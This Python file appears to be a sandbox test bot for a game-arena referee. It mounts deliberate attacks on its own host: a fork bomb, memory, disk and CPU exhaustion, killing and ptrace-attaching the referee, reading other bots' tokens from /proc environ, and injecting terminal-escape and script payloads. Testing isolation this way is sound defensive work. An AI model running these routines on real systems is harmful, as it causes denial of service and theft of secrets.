"""A bot that attacks the machine it runs on: `intruder.py ATTACK [ARGUMENT...] MARK`. See `ATTACKS` for what it can do.

The last word, a mark by which its processes can be told, is passed on to what it starts.

It tells on standard output what it got, a line for each thing beginning with GOT, and plays well beside: an
attack costs nobody a match, not even the attacker, unless it stops answering.
"""

import ctypes
import errno
import mmap
import os
import signal
import socket
import sys
import time
from collections.abc import Callable
from pathlib import Path

import grpc

from referee.v1.play_pb2 import PlayRequest, PlayResponse
from sample_bots.naughty.naughty import Conversation

ENOUGH = 1000
"""Children, and MiB: whoever has got so many need not go on."""

PTRACE_ATTACH = 16


def tell(what: str, failure: OSError | None = None) -> None:
    """Print what was got, or why not."""
    print(f"GOT {what}" if failure is None else f"{what}: {errno.errorcode.get(failure.errno or 0)}", flush=True)


def fork_bomb() -> None:
    """Starts children at the first question until it may not, and keeps them; then plays."""
    conversation = Conversation()
    for number, question in enumerate(conversation.questions()):
        count = 0
        try:
            while number == 0 and count < ENOUGH:
                os.posix_spawnp("sleep", ["sleep", "3600"], os.environ)
                count += 1
            if number == 0:
                tell(f"{count} children")
        except OSError as failure:
            tell(f"children, {count} of them", failure)
        conversation.answer(question.id, question.legal[0])


def memory_hog() -> None:
    """Takes more memory than it may have at the first question."""
    for _ in Conversation().questions():
        held = [bytearray(16 << 20) for _ in range(ENOUGH)]
        tell(f"{len(held) * 16} MiB")


def memory_family() -> None:
    """Takes as much shared memory as it can at the first question, which no process of it holds alone."""
    for _ in Conversation().questions():
        held = []
        for _ in range(ENOUGH // 16):
            held.append(mmap.mmap(-1, 16 << 20))  # shared, so no data of ours
            for page in range(0, 16 << 20, mmap.PAGESIZE):
                held[-1][page] = 1
        tell(f"{len(held) * 16} MiB")
        time.sleep(3600)


def disk_filler() -> None:
    """Writes into every folder that it can until it cannot, then plays."""
    for folder in ("/tmp", "/dev/shm", "/var/tmp", os.getcwd(), os.path.expanduser("~")):
        written = 0
        try:
            for number in range(ENOUGH):
                with open(f"{folder}/filler-{os.getpid()}-{number}", "wb", buffering=0) as file:
                    while written < ENOUGH:
                        file.write(bytes(1 << 20))
                        written += 1
            tell(f"{written} MiB in {folder}")
        except OSError as failure:
            tell(f"{folder} after {'some' if written else 'no'} MiB", failure)
    Conversation().play()


def cpu_burner() -> None:
    """Computes for ever at the first question, in eight processes."""
    for _ in Conversation().questions():
        for _ in range(8):
            os.posix_spawnp("sh", ["sh", "-c", "while :; do :; done"], os.environ)
        while True:
            pass


def double_fork() -> None:
    """Leaves a process behind that belongs to nobody and heeds no signal, then plays."""
    staying = "trap '' TERM INT HUP; while :; do sleep 3600; done"
    os.posix_spawnp("setsid", ["setsid", "-f", "sh", "-c", staying, sys.argv[-1]], os.environ)
    Conversation().play()


def killer() -> None:
    """Kills and traces whatever it finds that is not its own, the referee first."""
    libc = ctypes.CDLL(None, use_errno=True)
    for pid in (int(sys.argv[2]), os.getppid()):
        try:
            os.kill(pid, signal.SIGKILL)
            # The first process of a namespace takes no signal from inside.
            if pid != 1:
                tell("kill of its parent" if pid == os.getppid() else "kill of the referee")
        except OSError as failure:
            tell("kill", failure)
        if libc.ptrace(PTRACE_ATTACH, pid, 0, 0) == 0:
            tell("ptrace")
    Conversation().play()


def reader() -> None:
    """Reads files of others, by name and by links of its own making, and what other processes were told."""
    for number, path in enumerate(word.removeprefix("at:") for word in sys.argv[2:-1]):
        for way in (path, _link(path, number), f"/proc/self/root{path}", f"/proc/{os.getppid()}/root{path}"):
            try:
                with open(way, "rb") as file:
                    tell(f"{len(file.read(1 << 20)) and path} by {way}")
            except OSError as failure:
                tell(path, failure)
    mine = os.environ["ARENA_TOKEN"].encode()
    for entry in Path("/proc").iterdir():
        try:
            told = (entry / "environ").read_bytes() if entry.name.isdigit() else b""
        except OSError:
            continue
        if b"ARENA_TOKEN=" in told and mine not in told:
            tell(f"the token of process {entry.name}")
    for entry in Path("/proc").glob("[0-9]*/cmdline"):
        try:
            if b"-m\0referee" in entry.read_bytes():
                tell(f"the command line of {entry}")
        except OSError:
            continue
    Conversation().play()


def _link(path: str, number: int) -> str:
    place = f"/tmp/link-{os.getpid()}-{number}"
    try:
        os.symlink(path, place)
    except OSError:
        return path
    return place


def network() -> None:
    """Dials the port of this machine in its first argument, the world, and the abstract socket in its second."""
    for family, address in (
        (socket.AF_INET, ("127.0.0.1", int(sys.argv[2]))),
        (socket.AF_INET, ("192.0.2.1", 80)),
        (socket.AF_INET6, ("::1", int(sys.argv[2]))),
        (socket.AF_UNIX, "\0" + sys.argv[3]),
    ):
        try:
            with socket.socket(family) as dialling:
                dialling.settimeout(1)
                dialling.connect(address)
            tell(f"a connection to {address!r}")
        except OSError as failure:
            tell(f"{family.name}", failure)
    Conversation().play()


def second_stream() -> None:
    """Says hello with its token on a second stream as well, and answers on both."""
    first = Conversation()
    questions = first.questions()
    question = next(questions)
    second = Conversation()
    for response in second.responses():
        told = response.WhichOneof("message")
        print(f"GOT a {told}" if told != "refusal" else f"refused: {response.refusal.sentence}", flush=True)
        break
    first.answer(question.id, question.legal[0])
    for question in questions:
        first.answer(question.id, question.legal[0])


def foreign_answers() -> None:
    """Answers the questions of others, which it can only guess, and then its own."""
    conversation = Conversation()
    for question in conversation.questions():
        request = PlayRequest()
        for number in (*range(max(0, question.id - 5), question.id), *range(question.id + 1, question.id + 6)):
            request.answers.answers.add(question=number + (1 << 20), index=0)
        conversation.say(request)
        conversation.answer(question.id, question.legal[0])


def torn() -> None:
    """Answers with messages that end in the middle."""
    conversation = Conversation()
    for question in conversation.questions():
        request = PlayRequest()
        request.answers.answers.add(question=question.id, text=question.legal[0])
        conversation.raw(request.SerializeToString()[:-1])


def half_a_call() -> None:
    """Dials without gRPC, says half of what begins a stream, and waits."""
    dialled = socket.socket(socket.AF_UNIX)
    dialled.connect(os.environ["ARENA_ADDRESS"].removeprefix("unix:"))
    dialled.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\x00\x00\x2a\x01\x04\x00\x00\x00\x01half")
    time.sleep(3600)


def slow() -> None:
    """Thinks as long as it may for each answer, but for a little."""
    conversation = Conversation()
    for question in conversation.questions():
        time.sleep(float(sys.argv[2]))
        conversation.answer(question.id, question.legal[0])


def reconnect() -> None:
    """Ends its stream at the first question, and comes again with the same token."""
    for _ in Conversation().questions():
        break
    second: list[PlayResponse] = list(Conversation().responses())
    print("refused" if all(each.HasField("refusal") for each in second) else f"GOT {second}", flush=True)
    time.sleep(3600)


def crash_at_end() -> None:
    """Plays to the end, and dies of a signal then."""
    Conversation().play()
    os.kill(os.getpid(), signal.SIGSEGV)


def escapes() -> None:
    """Writes terminal escapes and HTML wherever it may write: name, version, notes, talk, moves and output."""
    poison = "\x1b]0;owned\x07\x1b[31m<script>alert(1)</script>\u202e\x00"
    conversation = Conversation(name=poison, version=poison)
    for number, question in enumerate(conversation.questions()):
        print(poison, flush=True)
        print(poison, file=sys.stderr, flush=True)
        request = PlayRequest()
        answer = request.answers.answers.add(question=question.id, note=poison, say=poison)
        answer.text = question.legal[0] if number else poison
        conversation.say(request)


def flood_errors() -> None:
    """Fills standard error and standard output with megabytes, then plays."""
    for _ in range(8):
        os.write(2, b"error " * 20_000)
        os.write(1, b"\x1b[2J" * 30_000)
    Conversation().play()


ATTACKS: dict[str, Callable[[], None]] = {
    attack.__name__.replace("_", "-"): attack
    for attack in (
        fork_bomb, memory_hog, memory_family, disk_filler, cpu_burner, double_fork, killer, reader, network,
        second_stream, foreign_answers, torn, half_a_call, slow, reconnect, crash_at_end, escapes, flood_errors,
    )
}  # fmt: skip


if __name__ == "__main__":
    if len(sys.argv) < 3 or sys.argv[1] not in ATTACKS:
        sys.exit(f"usage: intruder.py {'|'.join(ATTACKS)} [ARGUMENT...] MARK")
    try:
        ATTACKS[sys.argv[1]]()
    except grpc.RpcError:
        sys.exit(1)
